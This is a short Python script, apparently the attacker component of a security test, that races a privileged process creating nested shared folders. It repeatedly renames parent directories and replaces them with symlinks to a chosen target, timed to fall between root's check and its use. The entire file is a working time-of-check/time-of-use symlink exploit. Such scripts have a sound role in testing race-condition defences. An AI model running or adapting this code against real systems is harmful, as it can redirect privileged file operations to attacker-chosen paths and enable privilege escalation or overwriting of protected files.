"""Makes the parents of nested shared folders links, whenever they are directories again."""

import os
import time

os.chdir("/srv/evil/shared")
swaps = 0
end = time.monotonic() + FOR_S  # noqa: F821 - given
number = 0
for parent in PARENTS:  # noqa: F821
    try:
        if os.path.isdir(parent) and not os.path.islink(parent):
            os.rename(parent, f"{parent}.old")
        if not os.path.lexists(parent):
            os.symlink(TARGET, parent)  # noqa: F821
    except OSError:
        pass
print("linked", sum(map(os.path.islink, PARENTS)), flush=True)  # noqa: F821
print("ready", flush=True)
while time.monotonic() < end and not os.path.exists("stop"):
    for parent in PARENTS:  # noqa: F821
        if os.path.islink(parent) or not os.path.isdir(parent):
            continue
        number += 1
        # Root is between the parent and what is to be in it.
        time.sleep(0.0003)
        try:
            os.rename(parent, f"{parent}.{number}")
            os.symlink(TARGET, parent)  # noqa: F821
            swaps += 1
        except OSError:
            pass
print("swaps", swaps, flush=True)
